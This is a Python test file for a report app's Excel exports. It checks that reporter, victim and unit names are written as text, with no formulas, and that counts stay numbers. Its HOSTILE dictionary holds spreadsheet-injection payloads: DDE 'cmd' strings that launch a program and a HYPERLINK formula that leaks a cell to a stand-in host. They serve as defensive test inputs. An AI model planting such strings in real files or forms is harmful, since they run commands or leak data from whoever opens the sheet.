"""No formula in any workbook: a value someone typed (a reporter's name through the public form, a unit's name)
is written as text, however it begins; counts are number cells."""

from __future__ import annotations

import io
import uuid

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.reports.models import Report
from tests.factories import CST, create_staff, create_unit, exported, report_body
from tests.review.detail_helpers import Person, step_up
from tests.stats.test_stats_page import logged_in

HOSTILE = {
    "reporter": '=HYPERLINK("http://x/?"&T4,"点击")',
    "victim": "+1+cmd|' /C calc'!A0",
    "phone_like": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


def period_around(report) -> str:
    """The report's day in China Standard Time (the periods' zone), whatever the hour in UTC."""
    day = report.submitted_at.astimezone(CST).date()
    return f"from={day.isoformat()}&to={day.isoformat()}"


def _formulas(book) -> list[str]:
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets
            for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


def _texts(book) -> set[str]:
    return {cell.value for sheet in book.worksheets for line in sheet.iter_rows() for cell in line
            if isinstance(cell.value, str)}


@pytest.fixture
def hostile_report(app, client, reporter):
    """A report sent through the API with hostile strings where a reporter types, from a unit named like one."""
    unit = create_unit("hostile-1", name=HOSTILE["unit"])
    db.session.commit()
    body = report_body(unit_id=unit.id, victim={"name": HOSTILE["victim"]},
                       reporter={"name": HOSTILE["reporter"], "phone": "13800000000", "position": HOSTILE["tab"]})
    answer = client.post("/api/v1/reports", json=body, headers=reporter.headers)
    assert answer.status_code == 201, answer.json
    return db.session.get(Report, uuid.UUID(answer.json["id"]))


def test_the_register_writes_every_typed_value_as_text_and_no_formula(app, hostile_report):
    user = create_staff(role="prosecutor")
    db.session.commit()
    client = logged_in(app, user)
    who = Person(client, user)
    query = period_around(hostile_report)
    step_up(who, f"/review/register.xlsx?{query}")
    answer = exported(client, f"/review/register.xlsx?{query}")
    book = load_workbook(io.BytesIO(answer.data))
    assert _formulas(book) == []
    assert {HOSTILE["reporter"], HOSTILE["victim"], HOSTILE["unit"]} <= _texts(book)
    cells = [cell for line in book["台账"].iter_rows() for cell in line if cell.value == HOSTILE["reporter"]]
    assert cells
    assert all(cell.quotePrefix for cell in cells)  # stays text when someone edits the cell


def test_the_statistics_workbook_writes_names_as_text_and_counts_as_numbers(app, hostile_report):
    user = create_staff(role="prosecutor")
    db.session.commit()
    client = logged_in(app, user)
    answer = exported(client, f"/review/stats.xlsx?{period_around(hostile_report)}")
    book = load_workbook(io.BytesIO(answer.data))
    assert _formulas(book) == []
    assert HOSTILE["unit"] in _texts(book)
    units = {line[0]: line[2] for line in book["按成员单位"].iter_rows(min_row=3, values_only=True)}
    assert units[HOSTILE["unit"]] == 1
    categories = [line[1] for line in book["按类别"].iter_rows(min_row=3, values_only=True)]
    assert all(isinstance(value, int) for value in categories)
    assert sum(categories) == 1
